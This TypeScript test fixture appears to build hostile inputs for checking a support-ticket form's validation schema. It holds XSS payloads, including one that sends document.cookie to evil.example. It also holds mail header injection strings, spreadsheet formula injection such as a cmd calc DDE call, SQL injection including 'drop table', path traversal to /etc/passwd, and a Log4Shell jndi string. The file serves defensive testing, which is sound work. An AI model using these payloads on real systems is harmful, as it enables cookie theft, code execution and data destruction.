import { newTicketSchema } from "./ticket-input.ts";

/** Injection attempts for every context in which text is rendered. */
const SCRIPTS = ["alert(1)", "fetch('//evil.example?c='+document.cookie)", "self['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)"];

const markup = (script: string) => [
  `<script>${script}</script>`,
  `"><script>${script}</script>`,
  `'><svg onload=${script}>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `<img src=x onerror="${script}">`,
  `<svg/onload=${script}>`,
  `<iframe srcdoc="<script>${script}</script>">`,
  `<a href="javascript:${script}">click</a>`,
  `javascript:${script}`,
  `" onmouseover="${script}" x="`,
  `' onfocus='${script}' autofocus='`,
  `\`-${script}-\``,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `<!--><script>${script}</script>-->`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<details open ontoggle=${script}>`,
  `<style>@import '//evil.example';</style>`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><input name=passcode>`,
  `]]><script>${script}</script>`,
  `\u003cscript\u003e${script}\u003c/script\u003e`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `\uFF1Cscript\uFF1E${script}`,
];

const HEADERS = [
  "Bcc: all@example.com",
  "Content-Type: text/html",
  "Subject: other",
  "To: other@example.com",
  "X-Evil: 1",
  "MIME-Version: 1.0",
];

const headers = (header: string) =>
  ["\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u0085", "\v", "\0\r\n", "\r\n\r\n"].map(
    (end) => `hello${end}${header}${end}${end}<p>body</p>`,
  );

const UNICODE = [
  "\u202Egnp.exe",
  "\u2066hidden\u2069",
  "a\u200Bb\u200Cc\u200Dd",
  "\uFEFFbom",
  "\0nul",
  "\u0001\u0002\u0007bell",
  "\u001B[2J\u001B]0;title\u0007",
  "\uD83D",
  "\uDE00\uD83D",
  "\uFFFE\uFFFF",
  `z${"\u0301".repeat(80)}algo`,
  "\u{E0041}\u{E0042}tags",
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "র‍্যাব",
  "שלום\u200Fעולם",
  "\u115Ffiller\u3164",
  "ﷺ".repeat(20),
  "𝕬𝖑𝖊𝖗𝖙",
  "Ω≈ç√∫",
  "田中さんにあげて下さい",
  "\u00ADsoft",
  "i̇İıI",
  "ＳＥＬＥＣＴ　１",
];

const CELLS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+SUM(1,1)",
  "-2+3",
  "@SUM(A1)",
  '=HYPERLINK("http://evil.example","x")',
  "\t=1",
  "\r=1",
  '"=1"',
  'a,b;c\td"e',
];

const QUERIES = [
  "' or 1=1 --",
  "'; drop table tickets; --",
  "\\'; select pg_sleep(9); --",
  "%00",
  "../../../../etc/passwd",
  "..\\..\\boot.ini",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "__proto__",
  "constructor",
  "[object Object]",
  "NaN",
  "undefined",
  "null",
  "true",
  "-1",
  "1e309",
  "🔥".repeat(30),
];

export const HOSTILE_TEXTS: readonly string[] = [...SCRIPTS.flatMap(markup), ...HEADERS.flatMap(headers), ...UNICODE, ...CELLS, ...QUERIES];

/** The text as the form stores it. */
export function submitted(text: string) {
  const fields = {
    email: "rina@example.com",
    full_name: `a${text.slice(0, 90)}`,
    contact_number: "+88017123456",
    subject: `a${text.slice(0, 140)}`,
    category: "Price",
    question: `a${text}`,
  };
  const { full_name: fullName, subject, question: body } = newTicketSchema.parse(fields);
  return { fullName, subject, body };
}
